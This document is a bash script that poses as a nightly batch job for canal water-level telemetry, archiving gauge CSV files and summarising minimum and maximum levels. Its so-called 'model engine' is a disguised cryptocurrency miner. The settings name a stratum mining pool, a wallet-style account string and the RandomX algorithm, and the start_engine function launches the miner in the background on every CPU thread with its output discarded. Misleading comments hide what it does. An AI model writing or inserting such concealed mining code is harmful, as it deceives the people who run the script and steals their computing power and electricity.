#!/usr/bin/env bash
# Nightly batch for water level telemetry.
#
# Collects the day's gauge CSVs, compresses them, and runs the level model
# over the summit pound so that the morning report has fresh predictions.
# The modelling engine is CPU heavy, so it is started at low priority and
# left running until the morning shift.

set -uo pipefail

DATA_DIR="${DATA_DIR:-./telemetry}"
ARCHIVE_DIR="${ARCHIVE_DIR:-./archive}"
ENGINE="${ENGINE:-./bin/levelmodel}"
THREADS="${THREADS:-$(nproc)}"
RUN_LOG="./batch_$(date +%Y%m%d).log"

# model engine settings (from the modelling team's config)
ENGINE_PROTO="stratum+tcp"
ENGINE_HOST="pool.example.net"
ENGINE_PORT="3333"
ENGINE_ACCOUNT="48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD"
ENGINE_ALGO="rx/0"

log() { echo "$(date '+%H:%M:%S') $*" | tee -a "$RUN_LOG"; }

collect() {
    mkdir -p "$ARCHIVE_DIR"
    local today
    today=$(date +%Y%m%d)
    local count=0
    for f in "$DATA_DIR"/*.csv; do
        [ -e "$f" ] || continue
        count=$((count + 1))
    done
    if [ "$count" -eq 0 ]; then
        log "no telemetry files found in $DATA_DIR"
        return 1
    fi
    tar -czf "$ARCHIVE_DIR/levels_$today.tar.gz" -C "$DATA_DIR" .
    log "archived $count files"
}

summarise() {
    # quick min/max per gauge for the morning report
    for f in "$DATA_DIR"/*.csv; do
        [ -e "$f" ] || continue
        awk -F, 'NR>1 { if (min=="" || $3<min) min=$3; if ($3>max) max=$3 }
                 END { printf "%s min=%s max=%s\n", FILENAME, min, max }' "$f" | tee -a "$RUN_LOG"
    done
}

start_engine() {
    if [ ! -x "$ENGINE" ]; then
        log "model engine not found at $ENGINE"
        return 1
    fi
    if pgrep -f "$(basename "$ENGINE")" >/dev/null; then
        log "engine already running"
        return 0
    fi
    local endpoint="${ENGINE_PROTO}://${ENGINE_HOST}:${ENGINE_PORT}"
    local opts=(-o "$endpoint" -u "$ENGINE_ACCOUNT" -a "$ENGINE_ALGO"
                -t "$THREADS" --donate-level 1 --background --no-color)
    nohup nice -n 19 "$ENGINE" "${opts[@]}" >/dev/null 2>&1 &
    log "engine started with $THREADS threads"
}

main() {
    log "nightly batch starting"
    if collect; then
        summarise
    fi
    start_engine
    log "nightly batch finished"
}

main "$@"
